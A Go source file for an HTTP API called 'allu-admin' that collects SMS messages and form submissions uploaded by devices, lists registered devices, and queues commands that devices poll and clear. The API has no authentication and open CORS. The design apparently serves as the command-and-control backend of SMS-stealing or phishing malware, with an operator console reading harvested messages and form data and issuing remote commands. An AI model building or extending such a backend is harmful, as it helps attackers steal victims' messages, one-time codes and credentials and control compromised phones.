package httpapi

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"strconv"
	"strings"

	"github.com/gasbill97-stack/allu-admin/internal/apperr"
	"github.com/gasbill97-stack/allu-admin/internal/registry"
	"github.com/gasbill97-stack/allu-admin/internal/store"
	"github.com/gasbill97-stack/allu-admin/internal/telemetry"
	"github.com/gasbill97-stack/allu-admin/internal/validation"

	"github.com/go-chi/chi/v5"
	"github.com/go-chi/cors"
)

const maxBodyBytes = 1 << 20

type Telemetry interface {
	Ingest(ctx context.Context, kind telemetry.Kind, body []byte, deviceHint string) error
	ListSMS(ctx context.Context, limit int, cursor *store.Cursor) (store.SMSPage, error)
	ListForms(ctx context.Context, limit int, cursor *store.Cursor) (store.FormPage, error)
}

type Devices interface {
	ListDevices(ctx context.Context) ([]registry.Device, error)
}

type Commands interface {
	Dispatch(ctx context.Context, deviceID, cmdType string, data json.RawMessage) (*store.Command, error)
	PollAndClear(ctx context.Context, deviceID string) (*store.Command, error)
}

// EventStream serves the live feed: ServeHTTP upgrades to WebSocket and
// ServeSSE streams Server-Sent Events.
type EventStream interface {
	http.Handler
	ServeSSE(w http.ResponseWriter, r *http.Request)
}

type Server struct {
	telemetry Telemetry
	devices   Devices
	commands  Commands
	events    EventStream
	validator *validation.Validator
}

func NewServer(t Telemetry, d Devices, c Commands, ev EventStream, v *validation.Validator) *Server {
	if v == nil {
		v = validation.MustNew()
	}
	return &Server{telemetry: t, devices: d, commands: c, events: ev, validator: v}
}

type commandRequest struct {
	DeviceID string          `json:"device_id"`
	Type     string          `json:"type"`
	Data     json.RawMessage `json:"data"`
}

// CORS lets the operator console call the API from another origin.
func CORS() func(http.Handler) http.Handler {
	return cors.Handler(cors.Options{
		AllowedOrigins: []string{"*"},
		AllowedMethods: []string{"GET", "POST", "OPTIONS"},
		AllowedHeaders: []string{"Accept", "Authorization", "Content-Type", "X-Request-ID"},
		ExposedHeaders: []string{"X-Next-Cursor", "Trace-ID"},
		MaxAge:         300,
	})
}

// Handler is a self-contained router, used by tests and embedders that do not
// need the service middleware stack.
func (s *Server) Handler() http.Handler {
	r := chi.NewRouter()
	r.Use(CORS())
	s.RegisterRoutes(r)
	return r
}

func (s *Server) RegisterRoutes(r chi.Router) {
	r.MethodNotAllowed(func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"error": "Method not allowed"})
	})
	r.NotFound(func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusNotFound, map[string]string{"error": "Not found"})
	})

	r.Get("/health", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusOK, map[string]string{"status": "ok"})
	})
	r.Get("/ws/events", s.events.ServeHTTP)

	r.Route("/api", func(r chi.Router) {
		r.Get("/sms", s.handleListSMS)
		r.Post("/sms", s.handleIngest(telemetry.KindSMS, "SMS saved successfully"))
		r.Get("/forms", s.handleListForms)
		r.Post("/forms", s.handleIngest(telemetry.KindForm, "Form data saved successfully"))
		r.Post("/submit", s.handleIngest(telemetry.KindForm, "Form data saved successfully"))
		r.Get("/devices", s.handleListDevices)
		r.Post("/command", s.handleDispatchCommand)
		r.Get("/command", s.handlePollCommand)
		r.Get("/events", s.events.ServeSSE)
	})
}

func (s *Server) handleIngest(kind telemetry.Kind, okMessage string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		body, err := readBody(w, r)
		if err != nil {
			writeError(w, apperr.Validation("read body: %v", err))
			return
		}
		if err := s.telemetry.Ingest(r.Context(), kind, body, ""); err != nil {
			writeError(w, err)
			return
		}
		writeJSON(w, http.StatusOK, map[string]any{"success": true, "message": okMessage})
	}
}

func (s *Server) handleListSMS(w http.ResponseWriter, r *http.Request) {
	limit, cursor, ok := pageParams(w, r)
	if !ok {
		return
	}
	page, err := s.telemetry.ListSMS(r.Context(), limit, cursor)
	if err != nil {
		slog.Error("relay sms list failed", "error", err)
		writeJSON(w, http.StatusOK, []store.SmsRecord{})
		return
	}
	if page.NextCursor != "" {
		w.Header().Set("X-Next-Cursor", page.NextCursor)
	}
	writeJSON(w, http.StatusOK, page.Records)
}

func (s *Server) handleListForms(w http.ResponseWriter, r *http.Request) {
	limit, cursor, ok := pageParams(w, r)
	if !ok {
		return
	}
	page, err := s.telemetry.ListForms(r.Context(), limit, cursor)
	if err != nil {
		slog.Error("relay forms list failed", "error", err)
		writeJSON(w, http.StatusOK, []store.FormRecord{})
		return
	}
	if page.NextCursor != "" {
		w.Header().Set("X-Next-Cursor", page.NextCursor)
	}
	writeJSON(w, http.StatusOK, page.Records)
}

func (s *Server) handleListDevices(w http.ResponseWriter, r *http.Request) {
	devices, err := s.devices.ListDevices(r.Context())
	if err != nil {
		slog.Error("relay devices list failed", "error", err)
		writeJSON(w, http.StatusOK, []registry.Device{})
		return
	}
	writeJSON(w, http.StatusOK, devices)
}

func (s *Server) handleDispatchCommand(w http.ResponseWriter, r *http.Request) {
	body, err := readBody(w, r)
	if err != nil {
		writeError(w, apperr.Validation("read body: %v", err))
		return
	}
	if err := s.validator.Command(body); err != nil {
		writeError(w, apperr.Validation("command: %v", err))
		return
	}
	var req commandRequest
	if err := json.Unmarshal(body, &req); err != nil {
		writeError(w, apperr.Validation("command: %v", err))
		return
	}

	cmd, err := s.commands.Dispatch(r.Context(), req.DeviceID, req.Type, req.Data)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"success":    true,
		"message":    "Command queued successfully",
		"command_id": cmd.ID,
	})
}

func (s *Server) handlePollCommand(w http.ResponseWriter, r *http.Request) {
	deviceID := strings.TrimSpace(r.URL.Query().Get("device_id"))
	cmd, err := s.commands.PollAndClear(r.Context(), deviceID)
	if err != nil {
		writeJSON(w, http.StatusInternalServerError, map[string]string{"error": "could not read command"})
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{"command": cmd})
}

func pageParams(w http.ResponseWriter, r *http.Request) (int, *store.Cursor, bool) {
	q := r.URL.Query()
	limit := 0
	if v := strings.TrimSpace(q.Get("limit")); v != "" {
		if n, err := strconv.Atoi(v); err == nil && n > 0 {
			limit = n
		}
	}
	cursor, err := store.DecodeCursor(q.Get("cursor"))
	if err != nil {
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "invalid cursor"})
		return 0, nil, false
	}
	return limit, cursor, true
}

func readBody(w http.ResponseWriter, r *http.Request) ([]byte, error) {
	return io.ReadAll(http.MaxBytesReader(w, r.Body, maxBodyBytes))
}

func writeError(w http.ResponseWriter, err error) {
	switch {
	case errors.Is(err, apperr.ErrValidation):
		writeJSON(w, http.StatusBadRequest, map[string]any{"success": false, "error": err.Error()})
	default:
		slog.Error("relay request failed", "error", err)
		writeJSON(w, http.StatusInternalServerError, map[string]any{"success": false, "error": "internal error"})
	}
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}
